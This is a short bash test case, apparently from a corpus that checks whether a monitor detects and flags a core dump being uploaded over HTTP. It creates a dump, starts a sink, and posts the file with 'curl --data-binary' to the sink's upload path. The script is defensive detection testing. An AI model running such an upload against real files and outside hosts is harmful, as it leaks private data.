#!/bin/bash
# B-curl-data: curl --data-binary @core.
# flow: curl reads the whole file into memory, 4 KiB a call, then sends.
# tools: curl
# expect: sent counted port critical
. "$CORPUS/lib.sh"
mkdump
sink http
curl -sS --data-binary "@$D" "http://$SINK:$PORT/up"
sunk
